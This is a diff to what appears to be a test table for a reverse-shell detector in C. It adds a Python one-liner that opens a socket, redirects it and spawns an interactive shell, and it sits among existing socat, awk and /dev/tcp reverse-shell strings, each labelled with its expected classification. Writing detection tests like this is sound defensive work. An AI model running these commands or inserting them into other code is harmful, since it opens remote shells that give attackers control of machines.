@@ -64,6 +64,8 @@ static const struct {
 	{ "socat exec:%bash_-li,pty tcp:h:9", 0, REV },
 	{ "xterm -display 1.2.3.4:1", 0, REV },
 	{ "awk BEGIN{s=\"/inet/tcp/0/h/9\";while((s|&getline_c)>0)system(c)}", 0, REV },
+	{ "python3 -c %import_socket,os,pty;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0);pty.spawn('sh')", 0, REV },
+	{ "python3 -c %import_socket;s=socket.socket();s.connect(('h',9))", 0, NO },
 	{ "sh -i 2>&1", UNKNOWN_PIPE, REV, AB_SIMPLE_PIPED },
 	{ "echo >/dev/tcp/h/22", 0, NO }, { "</dev/tcp/h/22", 0, NO },
 	{ "cat </dev/tcp/h/13", 0, NO }, { "nc -zv h 22", 0, NO },
